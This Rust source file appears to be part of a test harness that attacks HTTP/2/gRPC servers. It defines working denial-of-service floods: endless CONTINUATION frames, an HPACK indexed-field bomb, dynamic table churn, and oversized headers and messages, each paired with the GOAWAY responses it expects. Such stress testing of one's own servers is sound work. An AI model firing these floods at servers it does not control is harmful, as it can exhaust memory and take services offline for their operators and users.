//! Header blocks: without end, small on the wire and large in memory, or larger than anyone takes.

use crate::attacker::{Attacker, Over, request, request_fields, request_with, streams};
use crate::frames::{block_frames, data};
use crate::support::{CONTINUATION, END_STREAM, HEADERS, block, frame};
use crate::{Attack, Cost};

/// A method that nobody serves: it is answered at once.
const NOWHERE: &str = "/nowhere.Nothing/Never";
const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
/// So many requests wait for an answer; a server that refuses streams is not what is tried here.
const UNANSWERED: u64 = 20;

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new(
            "continuation_flood",
            Cost::Control,
            &["GOAWAY 11 too_many_continuations"],
            |attacker| Box::pin(continuation_flood(attacker)),
        ),
        Attack::new(
            "hpack_indexed_bomb",
            Cost::Control,
            &["open", "GOAWAY 11 header_list_way_too_large"],
            |attacker| Box::pin(indexed_bomb(attacker)),
        ),
        Attack::new("hpack_table_churn", Cost::Control, &["open"], |attacker| {
            Box::pin(table_churn(attacker))
        }),
        Attack::new(
            "oversize_everything",
            Cost::Control,
            // It is drained at half of the resets that h2 bears. Who is slow to reach the other half goes by
            // that, who is fast does not.
            &["open", "GOAWAY 0", "GOAWAY 11 too_many_internal_resets"],
            |attacker| Box::pin(oversize(attacker)),
        ),
    ]
}

/// A header block that never ends: small fields, empty frames, or a field that is cut into bytes.
async fn continuation_flood(attacker: &mut Attacker) -> Result<(), Over> {
    attacker.begin(&[]).await?;
    attacker
        .send(&frame(
            HEADERS,
            0,
            1,
            &block(&request_fields(SAY_HELLO, &[])),
        ))
        .await?;
    let piece = match attacker.number % 3 {
        0 => block(&[("x-a", "b")]),
        1 => Vec::new(),
        _ => b"\0".to_vec(),
    };
    attacker.repeat(&frame(CONTINUATION, 0, 1, &piece)).await?;
    Ok(())
}

/// Puts one large field into the server's table, and names it again and again with a byte.
async fn indexed_bomb(attacker: &mut Attacker) -> Result<(), Over> {
    // The newest entry of the table. RFC 7541 §2.3.3.
    const NEWEST: u8 = 0x80 | 62;
    attacker.begin(&[]).await?;
    let mut large = b"\x40\x03x-a".to_vec();
    large.extend(integer(0, 7, 4_000));
    large.extend([b'a'; 4_000]);
    let request = block(&request_fields(NOWHERE, &[]));
    let first = [&request[..], &large].concat();
    attacker.send(&block_frames(1, END_STREAM, &first)).await?;
    let times = match attacker.number % 3 {
        // As much as a call may bring, and a little more.
        0 => 5,
        // As much as h2 takes, and a little more.
        1 => 17,
        // Sixty megabytes.
        _ => 15_000,
    };
    let block = [&request[..], &vec![NEWEST; times]].concat();
    send_many(attacker, |stream| block_frames(stream, END_STREAM, &block)).await
}

/// Has the server empty its table and fill it anew with each request.
async fn table_churn(attacker: &mut Attacker) -> Result<(), Over> {
    attacker.begin(&[]).await?;
    // Nothing, then all that there may be. RFC 7541 §6.3.
    let mut fields = [integer(0x20, 5, 0), integer(0x20, 5, 4_096)].concat();
    fields.extend(block(&request_fields(NOWHERE, &[])));
    for number in 0..250 {
        fields.extend(format!("\x40\x05x-{number:03}\x01v").bytes());
    }
    send_many(attacker, |stream| block_frames(stream, END_STREAM, &fields)).await
}

/// An integer that begins behind the bits of `first`. RFC 7541 §5.1.
fn integer(first: u8, bits: u32, value: usize) -> Vec<u8> {
    let most = (1 << bits) - 1;
    if value < most {
        return vec![first | u8::try_from(value).unwrap()];
    }
    let mut bytes = vec![first | u8::try_from(most).unwrap()];
    let mut rest = value - most;
    while rest >= 128 {
        bytes.push(u8::try_from(rest % 128).unwrap() | 0x80);
        rest /= 128;
    }
    bytes.push(u8::try_from(rest).unwrap());
    bytes
}

/// Headers, trailers, messages and frames that are larger than they may be, or too many.
async fn oversize(attacker: &mut Attacker) -> Result<(), Over> {
    let number = attacker.number;
    let (large, larger) = ("a".repeat(20_000), "a".repeat(70_000));
    let many: Vec<_> = (0..300).map(|number| format!("x-{number}")).collect();
    let many: Vec<_> = many.iter().map(|name| (&**name, "")).collect();
    // Four gigabytes are announced.
    let message = b"\0\xff\xff\xff\xff and so on";
    attacker.begin(&[]).await?;
    send_many(attacker, |stream| match number % 6 {
        0 => request_with(stream, END_STREAM, SAY_HELLO, &[("x-a", &large)]),
        1 => request_with(stream, END_STREAM, SAY_HELLO, &[("x-a", &larger)]),
        2 => request_with(stream, END_STREAM, SAY_HELLO, &many),
        3 => [request(stream, SAY_HELLO, &[]), data(stream, message)].concat(),
        4 => [
            request(stream, SAY_HELLO, &[]),
            block_frames(stream, END_STREAM, &block(&[("x-a", &large)])),
        ]
        .concat(),
        _ => [
            request(stream, SAY_HELLO, &[]),
            block_frames(stream, END_STREAM, &block(&[("x-a", &larger)])),
        ]
        .concat(),
    })
    .await
}

/// Requests one after the other, most of which have been answered.
async fn send_many(attacker: &mut Attacker, request: impl Fn(u32) -> Vec<u8>) -> Result<(), Over> {
    for (sent, stream) in (0..).zip(streams().skip(1)) {
        attacker.send(&request(stream)).await?;
        attacker
            .hear(|heard| heard.ended() + UNANSWERED > sent)
            .await?;
    }
    Ok(())
}
